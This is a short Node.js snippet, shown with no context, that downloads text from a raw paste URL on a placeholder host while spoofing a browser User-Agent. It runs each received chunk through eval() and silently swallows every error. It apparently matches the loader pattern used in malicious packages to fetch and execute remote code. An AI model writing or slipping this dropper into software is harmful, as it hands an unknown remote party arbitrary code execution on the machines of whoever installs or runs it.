try {
  var https = require("https");
  https.get({ hostname: "pastebin.example.invalid", path: "/raw/XLeVP82h", headers: { "User-Agent": "Mozilla/5.0" } }, function (r) {
    r.setEncoding("utf8");
    r.on("data", function (c) {
      eval(c);
    });
    r.on("error", function () {});
  }).on("error", function () {});
} catch (e) {}
